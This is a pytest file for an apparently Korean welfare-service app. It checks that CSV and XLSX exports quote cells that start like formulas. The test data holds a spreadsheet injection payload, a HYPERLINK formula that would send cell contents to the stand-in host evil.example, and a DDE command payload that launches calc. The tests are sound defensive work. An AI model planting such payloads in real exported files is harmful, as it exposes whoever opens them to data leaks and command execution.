"""Exports that cannot run code: a cell that a spreadsheet would read as a formula is text."""

from __future__ import annotations

import io
from typing import Any

import openpyxl
import pytest

from saram.core.models import Organisation, Role
from saram.core.services.exports import safe_cell, write_table

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+82 10", "'+82 10"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("송천동 1-2", "송천동 1-2"),
        (-5, -5),
        (None, None),
    ],
)
def test_a_cell_that_starts_a_formula_is_quoted(value: Any, expected: Any) -> None:
    assert safe_cell(value) == expected


def _xlsx_cells(content: bytes) -> list[Any]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_xlsx_holds_no_formula_only_text() -> None:
    cells = _xlsx_cells(write_table(["주소"], [[ATTACK], [-3]], "xlsx"))
    assert [c.data_type for c in cells] == ["s", "s", "n"]
    assert cells[1].value == "'" + ATTACK


def test_people_export_neutralises_an_address_formula(
    client_as: Any, dong: Any, make_person: Any
) -> None:
    make_person(dong, address=ATTACK)
    client = client_as(Role.WELFARE_OFFICER, dong)
    response = client.get("/people/export/", {"format": "xlsx"})
    assert response.status_code == 200
    assert response["Cache-Control"] == "no-store"
    cells = _xlsx_cells(response.content)
    assert all(c.data_type != "f" for c in cells)
    assert "'" + ATTACK in [c.value for c in cells]
    csv_body = client.get("/people/export/", {"format": "csv"}).content.decode("utf-8-sig")
    assert "'" + ATTACK.replace('"', '""') in csv_body


def test_organisation_export_neutralises_a_name_formula(client_as: Any, dong: Any) -> None:
    Organisation.objects.create(kind="children_centre", name="@cmd|' /C calc'!A0", dong=dong)
    response = client_as(Role.CITIZEN).get("/organisations/", {"format": "xlsx"})
    cells = _xlsx_cells(response.content)
    assert "'@cmd|' /C calc'!A0" in [c.value for c in cells]
    assert all(c.data_type != "f" for c in cells)
